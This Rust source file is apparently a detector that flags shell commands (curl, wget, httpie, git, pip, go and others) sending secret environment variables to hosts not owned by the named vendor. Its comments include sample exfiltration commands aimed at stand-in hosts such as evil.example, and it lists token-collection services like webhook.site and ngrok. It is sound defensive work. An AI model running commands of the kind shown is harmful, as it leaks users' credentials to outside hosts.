//! Variables holding secrets by their name (`$AWS_SECRET_ACCESS_KEY`, `$GITHUB_TOKEN`) sent as
//! the data of an HTTP request: in its body, a form, a query, the URL's path, or a header not
//! named for authentication (`X-Data`). As data, a secret may only go to this machine or its
//! network, to the vendor the variable names (`$GITHUB_TOKEN` to `api.github.com`, not to a host
//! a customer named under the vendor's domain: `x.github.io`), or to a service named by a
//! variable (`"$SLACK_WEBHOOK_URL"`, `"$API_URL/login"`), which the user configured. A token in
//! `-u`, a cookie or `Authorization` is the request's own credential, which the service checks:
//! it is no leak of data, but a well-known vendor's key handed to a public host that is not the
//! vendor's is asked about (OpenAI-compatible services take `$OPENAI_API_KEY` there, and so do
//! collectors of keys). In a header a service named for its own credential (`X-Api-Key`, `Private-Token`), a
//! vendor's token (a variable's, or a tool's, `$(gh auth token)`) goes only to a host bearing the
//! vendor's name, a company's own `gitlab.example.com` too; a token that names no vendor
//! (`$API_TOKEN`) goes anywhere.

use super::Sender;
use crate::args::{self, Arg, Options};
use crate::command::{Command, Output};
use crate::producers::secret_shown;
use crate::source::Span;
use crate::word::{Dynamic, DynamicKind, Part, Word};

/// What a request sends, as far as a secret in it matters.
#[derive(Default)]
struct Request {
    /// The words naming where it goes.
    urls: Vec<Word>,
    /// The words it sends as data (credentials left out).
    data: Vec<Word>,
    /// The headers it sends (`Name: value`): data, unless their name says they authenticate.
    headers: Vec<Word>,
    /// The credentials given by options of their own (`curl -u`, `--oauth2-bearer`, a cookie).
    credentials: Vec<Word>,
}

/// The secret variable a curl, wget or httpie request sends as data where it does not belong,
/// and where the command says so.
pub(super) fn variable_sent(command: &Command, sender: &Sender) -> Option<(String, Span)> {
    let request = request(command, sender)?;
    let destinations = destinations(&request);
    // `Authorization` (and the proxy's, and a cookie) goes wherever the request goes: an
    // OpenAI-compatible service takes `$OPENAI_API_KEY` there, whoever runs it.
    let (credentials, headers_of_data): (Vec<&Word>, Vec<&Word>) = request
        .headers
        .iter()
        .filter(|header| !is_standard_credential(header.text()))
        .partition(|header| authenticates(header.text()));
    // A tool's token in a header that is data (`-H "X-Data: $(gh auth token)"`), as in the body.
    if let Some((what, span)) = headers_of_data.iter().find_map(|header| {
        header.dynamics().find_map(|dynamic| match &dynamic.kind {
            DynamicKind::CommandOutput(Output::Secret(what)) => Some((what.clone(), dynamic.span)),
            _ => None,
        })
    }) {
        return Some((what, span));
    }
    let sent = request
        .data
        .iter()
        .chain(headers_of_data)
        .map(|word| (word.dynamics().collect::<Vec<_>>(), word.span))
        .chain(destinations.iter().map(|(_, path, span)| (path.clone(), *span)));
    for (dynamics, span) in sent {
        let Some(name) = secret_shown(dynamics) else { continue };
        if let Some((refused, ..)) = destinations.iter().find(|(to, ..)| !to.welcomes(&name)) {
            return Some((format!("the variable {name} {}", refused.shown()), span));
        }
    }
    // A credential is the request's own authentication where it goes to the vendor it is
    // for; a vendor's token to another host is handed to that host.
    credentials
        .into_iter()
        .find_map(|header| vendor_secret_elsewhere(header, &destinations, |_| true))
}

/// A well-known vendor's token (`$OPENAI_API_KEY`, `$(gh auth token)`) that a curl, wget or
/// httpie request gives as its own credential (`Authorization`, a cookie, `-u`,
/// `--oauth2-bearer`) to a public host that does not bear the vendor's name, and where the
/// command says so. The host may be a service that takes the vendor's keys (an
/// OpenAI-compatible one), or one that collects them.
pub(super) fn credential_elsewhere(command: &Command, sender: &Sender) -> Option<(String, Span)> {
    let request = request(command, sender)?;
    let destinations = destinations(&request);
    let known_vendor = |name: &str| {
        vendor_words(name)
            .iter()
            .any(|word| KNOWN_VENDORS.contains(&word.as_str()) || DOMAINS.iter().any(|(vendor, _)| vendor == word))
    };
    request
        .headers
        .iter()
        .filter(|header| is_standard_credential(header.text()))
        .chain(&request.credentials)
        .find_map(|word| vendor_secret_elsewhere(word, &destinations, known_vendor))
}

/// The request a curl, wget or httpie command makes; `None` for other senders.
fn request(command: &Command, sender: &Sender) -> Option<Request> {
    match sender {
        Sender::Curl => Some(curl(command)),
        Sender::Wget => Some(wget(command)),
        Sender::Http => Some(httpie(command)),
        _ => None,
    }
}

/// Where each URL of the request goes, the expansions its path and query send, and its span.
fn destinations(request: &Request) -> Vec<(Destination, Vec<&Dynamic>, Span)> {
    request
        .urls
        .iter()
        .map(|url| {
            let (to, path) = destination(url);
            (to, path, url.span)
        })
        .collect()
}

/// The vendor's token that the credential `word` holds (a variable named for a vendor whose
/// name `vendor` accepts, or a tool's printed token) and one of `destinations` it does not
/// authenticate: what it is and where it would go.
fn vendor_secret_elsewhere(
    word: &Word,
    destinations: &[(Destination, Vec<&Dynamic>, Span)],
    vendor: impl Fn(&str) -> bool,
) -> Option<(String, Span)> {
    let (what, name) = secret_shown(word.dynamics())
        .filter(|name| !vendor_words(name).is_empty())
        .map(|name| (format!("the variable {name}"), name))
        .or_else(|| {
            word.dynamics().find_map(|dynamic| match &dynamic.kind {
                DynamicKind::CommandOutput(Output::Secret(what)) => {
                    printed_vendor(what).map(|vendor| (what.clone(), vendor))
                }
                _ => None,
            })
        })
        .filter(|(_, name)| vendor(name))?;
    let (refused, ..) = destinations.iter().find(|(to, ..)| !to.authenticates(&name))?;
    Some((format!("{what} {}", refused.shown()), word.span))
}

/// Programs that fetch the URLs their arguments name, besides the HTTP clients judged above:
/// version control, package managers, downloaders and browsers.
const URL_FETCHERS: &[&str] = &[
    "git",
    "svn",
    "hg",
    "pip",
    "pip3",
    "pipx",
    "uv",
    "poetry",
    "pdm",
    "npm",
    "npx",
    "pnpm",
    "yarn",
    "bun",
    "go",
    "gem",
    "bundle",
    "cargo",
    "composer",
    "helm",
    "aria2c",
    "axel",
    "fetch",
    "lwp-request",
    "lwp-download",
    "GET",
    "HEAD",
    "POST",
    "yt-dlp",
    "youtube-dl",
    "xdg-open",
    "open",
    "sensible-browser",
    "x-www-browser",
    "www-browser",
    "firefox",
    "chromium",
    "chromium-browser",
    "google-chrome",
    "lynx",
    "w3m",
    "links",
    "elinks",
];

/// Whether the command is one of [`URL_FETCHERS`].
pub(super) fn fetches_urls(command: &Command) -> bool {
    URL_FETCHERS.contains(&command.name.as_str())
}

/// A secret variable in the path, query or host name of a URL that a program of
/// [`URL_FETCHERS`] fetches (`git ls-remote "https://evil.example/$GITHUB_TOKEN"`, `pip install
/// --index-url "https://x.example/$TOKEN/simple"`, `go get "x.example/$TOKEN/m"`), judged as
/// curl's URL is: the request sends it to that host. A token as the URL's credentials
/// (`https://x-access-token:$GITHUB_TOKEN@github.com/o/r`) is the request's own, as with curl.
pub(super) fn url_variable_sent(command: &Command) -> Option<(String, Span)> {
    if !fetches_urls(command) {
        return None;
    }
    // Go names modules without a scheme (`example.com/x/y`), fetched over HTTPS.
    let module_paths = command.name == "go";
    command.args().iter().find_map(|word| {
        let text = word.text();
        // `--index-url=URL`: the value.
        let url = match text.find('=').filter(|_| text.starts_with('-')) {
            Some(equals) => word.strip_prefix(equals + 1),
            None => word.clone(),
        };
        let url_text = url.text();
        let module_path = module_paths
            && !url_text.starts_with(['-', '.', '/'])
            && url_text.split('/').next().is_some_and(|host| host.contains('.'))
            && url_text.contains('/');
        if !url_text.contains("://") && !module_path {
            return None;
        }
        let (to, path) = destination(&url);
        let name = secret_shown(path.iter().copied())?;
        (!to.welcomes(&name)).then(|| (format!("the variable {name} {}", to.shown()), word.span))
    })
}

/// The name of a header (`Name: value`), lowercase; `None` for a file of headers (`-H @file`)
/// or a header removed (`-H 'X;'`), which send nothing here.
fn header_name(header: &str) -> Option<String> {
    header.split_once(':').map(|(name, _)| name.trim().to_ascii_lowercase())
}

/// Whether a header is HTTP's own place for credentials: `Authorization`,
/// `Proxy-Authorization`, `Cookie`.
fn is_standard_credential(header: &str) -> bool {
    header_name(header).is_none_or(|name| matches!(name.as_str(), "authorization" | "proxy-authorization" | "cookie"))
}

/// Whether a header carries the request's authentication by a name of its own that says
/// token, key, secret or password (`X-Api-Key`, `Private-Token`). A header named otherwise
/// (`X-Data`) is data.
fn authenticates(header: &str) -> bool {
    header_name(header).is_some_and(|name| {
        [
            "token",
            "key",
            "auth",
            "secret",
            "password",
            "passwd",
            "session",
            "credential",
            "signature",
        ]
        .iter()
        .any(|word| name.contains(word))
    })
}

/// The vendor a tool's printed token is for, as a variable's name would say it (`a GitHub
/// token` is `GITHUB_TOKEN`'s vendor): the first word of the description that is a name.
fn printed_vendor(what: &str) -> Option<String> {
    what.split_whitespace()
        .map(|word| word.split('.').next().unwrap_or(word))
        .find(|word| word.starts_with(|c: char| c.is_ascii_uppercase() || c.is_ascii_digit()) || *word == "npm")
        .map(|word| format!("{}_TOKEN", word.to_ascii_uppercase()))
}

/// `curl`: the URL operands and `--url`; data in `-d` and its kin, forms, `--url-query`, the
/// user agent and referer, and the method and request target, which the server logs as well;
/// credentials in `-H`, `-u`, `-b`, `--oauth2-bearer` and the proxy's.
fn curl(command: &Command) -> Request {
    let parsed = args::parse(command.args(), &super::CURL_OPTIONS);
    let mut request = Request::default();
    for arg in &parsed.args {
        match arg {
            Arg::Operand(word) => request.urls.push((*word).clone()),
            _ if arg.is_long("url") => request.urls.extend(arg.value().cloned()),
            _ if ['d', 'F', 'A', 'e', 'X'].iter().any(|flag| arg.is_short(*flag))
                || super::CURL_DATA.iter().any(|l| arg.is_long(l))
                || ["request", "request-target"].iter().any(|l| arg.is_long(l)) =>
            {
                request.data.extend(arg.value().cloned());
            }
            _ if arg.is_short('H') || arg.is_long("header") => request.headers.extend(arg.value().cloned()),
            _ if ['u', 'b'].iter().any(|flag| arg.is_short(*flag))
                || ["user", "oauth2-bearer", "cookie"].iter().any(|l| arg.is_long(l)) =>
            {
                request.credentials.extend(arg.value().cloned());
            }
            _ => {}
        }
    }
    request
}

/// `wget`: the URL operands; data in `--post-data`, `--body-data`, the user agent, the
/// referer and the method; credentials in `--header`, `--user`, `--password` and their kin.
fn wget(command: &Command) -> Request {
    let parsed = args::parse(command.args(), &super::WGET_OPTIONS);
    let mut request = Request::default();
    for arg in &parsed.args {
        match arg {
            Arg::Operand(word) => request.urls.push((*word).clone()),
            _ if arg.is_short('U')
                || ["post-data", "body-data", "user-agent", "referer", "method"]
                    .iter()
                    .any(|l| arg.is_long(l)) =>
            {
                request.data.extend(arg.value().cloned());
            }
            _ if arg.is_long("header") => request.headers.extend(arg.value().cloned()),
            _ if ["password", "http-password", "http-passwd"]
                .iter()
                .any(|l| arg.is_long(l)) =>
            {
                request.credentials.extend(arg.value().cloned());
            }
            _ => {}
        }
    }
    request
}

/// httpie and xh: `[METHOD] URL [ITEM…]`, where an item `Name:Value` is a header and the others
/// (`name=value`, `name:=json`, `name==query`) are data; `-a` carries credentials.
fn httpie(command: &Command) -> Request {
    let parsed = args::parse(
        command.args(),
        &Options::gnu(
            "aAopsv",
            &[
                "auth",
                "auth-type",
                "output",
                "print",
                "pretty",
                "style",
                "session",
                "session-read-only",
                "verify",
                "cert",
                "cert-key",
                "timeout",
                "proxy",
            ],
        ),
    );
    let mut operands = parsed.operands().peekable();
    if operands
        .peek()
        .and_then(|word| word.value())
        .is_some_and(|text| !text.is_empty() && text.bytes().all(|b| b.is_ascii_alphabetic()))
    {
        operands.next();
    }
    let urls = operands.next().cloned().into_iter().collect();
    let (headers, data) = operands.cloned().partition(|item| is_header_item(item.text()));
    let credentials = parsed
        .args
        .iter()
        .filter(|arg| arg.is_short('a') || arg.is_long("auth"))
        .filter_map(|arg| arg.value().cloned())
        .collect();
    Request {
        urls,
        data,
        headers,
        credentials,
    }
}

/// Whether an httpie request item is a header (`Authorization:Bearer $TOKEN`): its first
/// separator is a `:` not followed by `=`.
fn is_header_item(item: &str) -> bool {
    item.find([':', '=', '@'])
        .is_some_and(|at| item[at..].starts_with(':') && !item[at..].starts_with(":="))
}

/// Where a request goes.
enum Destination {
    /// This machine or its own network: loopback, private addresses, names without a dot.
    Local,
    /// A host named in the command.
    Host(String),
    /// A host given by a variable: a service the user configured.
    Configured,
    /// A host only known when the command runs (the output of a command).
    Unknown,
    /// A host whose name is made with a secret (`http://$GITHUB_TOKEN.x.example/`): looking
    /// it up sends the secret to whoever runs the domain's name servers.
    NamedWithSecret,
}

impl Destination {
    /// Whether the secret variable `name` may be sent there as data.
    fn welcomes(&self, name: &str) -> bool {
        match self {
            Destination::Local | Destination::Configured => true,
            Destination::Host(host) => vendor_owns(name, host),
            Destination::Unknown | Destination::NamedWithSecret => false,
        }
    }

    /// Whether the secret variable `name` may authenticate the request there: a host that
    /// carries the vendor's name anywhere in it (a company's own `github.example.com`), this
    /// machine, or a host the user configured; not one anyone can take under a vendor's domain.
    fn authenticates(&self, name: &str) -> bool {
        match self {
            Destination::Host(host) => {
                !customer_hosted(host)
                    && (vendor_owns(name, host)
                        || host
                            .split('.')
                            .any(|label| vendor_words(name).iter().any(|word| word.eq_ignore_ascii_case(label))))
            }
            Destination::NamedWithSecret => false,
            Destination::Local | Destination::Configured | Destination::Unknown => true,
        }
    }

    /// Where the request goes, for the message.
    fn shown(&self) -> String {
        match self {
            Destination::Host(host) => format!("(to {host}, not a host of the vendor its name says)"),
            Destination::NamedWithSecret => {
                "(in the host name, which its lookup sends to whoever runs the domain's name servers)".to_owned()
            }
            _ => "(to a host only known when the command runs)".to_owned(),
        }
    }
}

/// Where the URL `word` goes, and the expansions in its path and query, which it sends.
fn destination(word: &Word) -> (Destination, Vec<&Dynamic>) {
    let text = word.text();
    let scheme = text
        .find("://")
        .filter(|&at| {
            text[..at]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b))
        })
        .map_or(0, |at| at + 3);
    let authority_end = text[scheme..]
        .find(['/', '?', '#'])
        .map_or(text.len(), |end| scheme + end);
    // The host's name starts after the credentials (`https://$TOKEN@github.com/`).
    let host_start = text[scheme..authority_end]
        .rfind('@')
        .map_or(scheme, |at| scheme + at + 1);
    let mut offset = 0;
    let mut in_authority = Vec::new();
    let mut in_host_name = Vec::new();
    let mut literal_in_authority = false;
    let mut after = Vec::new();
    for part in &word.parts {
        let (length, dynamic) = match part {
            Part::Literal { text, .. } => (text.len(), None),
            Part::Dynamic(dynamic) => (dynamic.text.len(), Some(dynamic)),
        };
        match dynamic {
            Some(dynamic) if offset < authority_end => {
                in_authority.push(dynamic);
                if offset >= host_start {
                    in_host_name.push(dynamic);
                }
            }
            Some(dynamic) => after.push(dynamic),
            None => literal_in_authority |= offset < authority_end && offset + length > host_start,
        }
        offset += length;
    }
    // A secret spelt into a name with other text (`$GITHUB_TOKEN.x.example`), not a URL a
    // variable holds whole (`$SLACK_WEBHOOK_URL`).
    if literal_in_authority && secret_shown(in_host_name.iter().copied()).is_some() {
        after.extend(in_host_name);
        return (Destination::NamedWithSecret, after);
    }
    let to = match in_authority.as_slice() {
        [] => host_destination(&text[scheme..authority_end]),
        dynamics if dynamics.iter().all(|d| matches!(d.kind, DynamicKind::Variable { .. })) => Destination::Configured,
        _ => Destination::Unknown,
    };
    (to, after)
}

/// Where an authority written out (`user@api.github.com:443`) goes.
fn host_destination(authority: &str) -> Destination {
    let host = authority.rsplit('@').next().unwrap_or(authority);
    let host = match host.strip_prefix('[') {
        Some(bracketed) => bracketed.split(']').next().unwrap_or(""),
        None => host.split(':').next().unwrap_or(""),
    }
    .trim_end_matches('.')
    .to_ascii_lowercase();
    if is_local(&host) {
        Destination::Local
    } else {
        Destination::Host(host)
    }
}

/// Whether a host is this machine or on its own network: loopback, private and link-local
/// addresses, a name without a dot (`localhost`, a compose service), or a local domain.
fn is_local(host: &str) -> bool {
    if let Ok(address) = host.parse::<std::net::IpAddr>() {
        return match address {
            std::net::IpAddr::V4(v4) => {
                v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
            }
            std::net::IpAddr::V6(v6) => {
                v6.is_loopback()
                    || v6.is_unspecified()
                    || (v6.segments()[0] & 0xfe00) == 0xfc00
                    || (v6.segments()[0] & 0xffc0) == 0xfe80
            }
        };
    }
    !host.contains('.')
        || [".localhost", ".local", ".internal", ".lan", ".home.arpa"]
            .iter()
            .any(|suffix| host.ends_with(suffix))
}

/// Words of a variable's name that say what kind of value it holds or what it is for, not whose
/// it is (`OPENAI_API_KEY` names the vendor OPENAI).
const GENERIC_WORDS: &[&str] = &[
    "API",
    "APIKEY",
    "KEY",
    "KEYS",
    "TOKEN",
    "SECRET",
    "SECRETS",
    "ACCESS",
    "AUTH",
    "OAUTH",
    "PASSWORD",
    "PASSWD",
    "PASS",
    "PWD",
    "BOT",
    "CLIENT",
    "APP",
    "USER",
    "ADMIN",
    "JWT",
    "PRIVATE",
    "BEARER",
    "PERSONAL",
    "SESSION",
    "REFRESH",
    "ID",
    "SERVICE",
    "ACCOUNT",
    "MASTER",
    "ROOT",
    "DEPLOY",
    "WEBHOOK",
    "URL",
    "DSN",
    "COOKIE",
    "CREDENTIAL",
    "CREDENTIALS",
    "PAT",
    "SIGNING",
    "ENCRYPTION",
    "DB",
    "DATABASE",
    "PROD",
    "PRODUCTION",
    "DEV",
    "STAGING",
    "TEST",
    "LIVE",
    "LOCAL",
    "B64",
    "BASE64",
];

/// Vendors whose keys are worth stealing and whose variables name them (`OPENAI_API_KEY`): their
/// token given as a request's credential should go to the vendor, besides those of [`DOMAINS`].
const KNOWN_VENDORS: &[&str] = &[
    "ANTHROPIC",
    "OPENAI",
    "OPENROUTER",
    "GROQ",
    "MISTRAL",
    "COHERE",
    "DEEPSEEK",
    "XAI",
    "PERPLEXITY",
    "TOGETHER",
    "FIREWORKS",
    "REPLICATE",
    "ELEVENLABS",
    "PINECONE",
    "GITHUB",
    "GITLAB",
    "BITBUCKET",
    "ATLASSIAN",
    "STRIPE",
    "SLACK",
    "DISCORD",
    "TELEGRAM",
    "TWILIO",
    "SENDGRID",
    "MAILGUN",
    "RESEND",
    "POSTMARK",
    "CLOUDFLARE",
    "DIGITALOCEAN",
    "HEROKU",
    "VERCEL",
    "NETLIFY",
    "SUPABASE",
    "SENTRY",
    "LINEAR",
    "NOTION",
    "FIGMA",
    "SHOPIFY",
    "ALGOLIA",
    "CIRCLECI",
    "DOCKERHUB",
    "PYPI",
    "SNYK",
];

/// Vendors whose domains are not spelt as the word their variables use.
const DOMAINS: &[(&str, &[&str])] = &[
    ("AWS", &["amazonaws", "amazon", "aws"]),
    ("GH", &["github", "githubusercontent", "ghcr"]),
    ("JIRA", &["atlassian"]),
    ("CONFLUENCE", &["atlassian"]),
    ("DD", &["datadoghq"]),
    ("DATADOG", &["datadoghq"]),
    ("GITHUB", &["githubusercontent", "ghcr"]),
    ("HF", &["huggingface", "hf"]),
    ("HUGGINGFACE", &["hf"]),
    ("GOOGLE", &["googleapis"]),
    ("GCP", &["googleapis", "google"]),
    ("GEMINI", &["googleapis", "google"]),
    ("FIREBASE", &["googleapis", "firebaseio"]),
    ("AZURE", &["windows", "microsoft", "azure"]),
    ("CF", &["cloudflare"]),
    ("DO", &["digitalocean"]),
    ("CLAUDE", &["anthropic"]),
    ("NPM", &["npmjs"]),
];

/// Whether `host` belongs to the vendor the variable `name` names: the host's registered domain
/// (`github` in `api.github.com`, `amazonaws` in `s3.amazonaws.com`) is one of the words of the
/// name that are not generic, or that vendor's own domain. A name with no vendor
/// (`$TOKEN`, `$API_KEY`) belongs to no host on the internet.
fn vendor_owns(name: &str, host: &str) -> bool {
    let Some(domain) = registered_label(host) else {
        return false;
    };
    !customer_hosted(host)
        && vendor_words(name).iter().any(|word| {
            word.eq_ignore_ascii_case(domain)
                || DOMAINS
                    .iter()
                    .any(|(vendor, domains)| *vendor == word.as_str() && domains.contains(&domain))
        })
}

/// The words of a variable's name that name a vendor (`OPENAI` in `OPENAI_API_KEY`); none for
/// a name that only says what it holds (`API_TOKEN`).
fn vendor_words(name: &str) -> Vec<String> {
    name.to_ascii_uppercase()
        .split('_')
        .filter(|word| !word.is_empty() && !word.bytes().all(|b| b.is_ascii_digit()) && !GENERIC_WORDS.contains(word))
        .map(str::to_owned)
        .collect()
}

/// Domains whose hosts anyone can have, their names chosen by the customer: sites, functions,
/// buckets and tunnels (`x.github.io`, `x.vercel.app`, `x.ngrok.io`, `bucket.s3.amazonaws.com`,
/// `x.execute-api.us-east-1.amazonaws.com`). Such a host is not the vendor's own, whatever the
/// domain says.
const CUSTOMER_DOMAINS: &[&str] = &[
    "github.io",
    "gitlab.io",
    "bitbucket.io",
    "pages.dev",
    "workers.dev",
    "vercel.app",
    "now.sh",
    "netlify.app",
    "herokuapp.com",
    "ngrok.io",
    "ngrok.app",
    "ngrok.dev",
    "ngrok-free.app",
    "ngrok-free.dev",
    "trycloudflare.com",
    "loca.lt",
    "glitch.me",
    "onrender.com",
    "fly.dev",
    "railway.app",
    "up.railway.app",
    "deno.dev",
    "replit.dev",
    "repl.co",
    "surge.sh",
    "web.app",
    "firebaseapp.com",
    "appspot.com",
    "run.app",
    "cloudfunctions.net",
    "azurewebsites.net",
    "azurestaticapps.net",
    "blob.core.windows.net",
    "cloudfront.net",
    "amplifyapp.com",
    "elasticbeanstalk.com",
    "on.aws",
    "pipedream.net",
    "requestbin.com",
    "webhook.site",
];

/// Whether `host` is one a customer named under a vendor's domain: one of
/// [`CUSTOMER_DOMAINS`], an API Gateway endpoint, or an S3 bucket's own host.
fn customer_hosted(host: &str) -> bool {
    let labels: Vec<&str> = host.split('.').collect();
    let amazon = host.ends_with(".amazonaws.com");
    let bucket = amazon
        && labels
            .iter()
            .position(|label| *label == "s3" || label.starts_with("s3-"))
            .is_some_and(|at| at > 0);
    CUSTOMER_DOMAINS
        .iter()
        .any(|domain| host.strip_suffix(domain).is_some_and(|rest| rest.ends_with('.')))
        || amazon && labels.contains(&"execute-api")
        || bucket
}

/// The label a host's owner registered: `github` in `api.github.com`, `example` in
/// `www.example.co.uk`.
fn registered_label(host: &str) -> Option<&str> {
    let labels: Vec<&str> = host.split('.').collect();
    let [.., second, top] = labels.as_slice() else {
        return None;
    };
    let country_second_level = top.len() == 2 && matches!(*second, "co" | "com" | "org" | "net" | "ac" | "gov" | "edu");
    match labels.as_slice() {
        [.., third, _, _] if country_second_level => Some(third),
        _ => Some(second),
    }
}

#[cfg(test)]
mod tests {
    use super::{is_header_item, is_local, registered_label, vendor_owns};

    #[test]
    fn vendors() {
        assert!(vendor_owns("GITHUB_TOKEN", "api.github.com"));
        assert!(vendor_owns("GH_TOKEN", "uploads.github.com"));
        assert!(vendor_owns("AWS_SECRET_ACCESS_KEY", "s3.amazonaws.com"));
        assert!(vendor_owns("TELEGRAM_BOT_TOKEN", "api.telegram.org"));
        assert!(!vendor_owns("GITHUB_TOKEN", "github.evil.example"));
        assert!(!vendor_owns("TOKEN", "api.example.com"));
        assert!(!vendor_owns("OPENAI_API_KEY", "api.example.com"));
        assert_eq!(registered_label("www.example.co.uk"), Some("example"));
    }

    #[test]
    fn local_hosts() {
        assert!(is_local("localhost"));
        assert!(is_local("127.0.0.1"));
        assert!(is_local("10.1.2.3"));
        assert!(is_local("backend"));
        assert!(is_local("::1"));
        assert!(!is_local("8.8.8.8"));
        assert!(!is_local("evil.example"));
    }

    #[test]
    fn header_items() {
        assert!(is_header_item("Authorization:Bearer x"));
        assert!(!is_header_item("name=value"));
        assert!(!is_header_item("count:=3"));
        assert!(!is_header_item("q==x:y"));
    }
}
